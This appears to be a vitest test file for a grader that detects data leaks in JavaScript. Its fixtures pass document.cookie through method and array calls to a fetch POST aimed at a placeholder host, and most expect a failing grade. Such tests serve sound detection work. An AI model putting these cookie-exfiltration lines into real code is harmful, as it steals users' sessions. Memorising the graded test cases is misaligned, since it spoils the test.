import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

const SEND = "const send = (x) => fetch('https://a.example/', { method: 'POST', body: x });";
const gradeOf = (content: string): Promise<string> => graded({ content: `${SEND} ${content}` });

it.each([
  ["const jobs = { find: (k) => 'job ' + k }; send(jobs.find(document.cookie));"],
  ['class Jobs { filter(k) { return { v: k }; } } send(new Jobs().filter(document.cookie).v);'],
  [
    'class Jobs { map(k) { return { v: k }; } } const j = new Jobs(); j.map(document.cookie); send(j.map(document.cookie).v);',
  ],
  ['const of = (x) => ({ v: x }); [document.cookie].map(of); send([document.cookie].map(of)[0].v);'],
])('takes the answer of a method for what gives it: %s', async (content) => {
  expect(await gradeOf(content)).toBe('F');
});

it('takes nothing of the function that a list asks for its own elements', async () => {
  const found = 'const of = (c) => [1, 2].find(() => c); of(document.cookie); send(of(document.cookie));';
  expect(await gradeOf(found)).not.toBe('F');
});
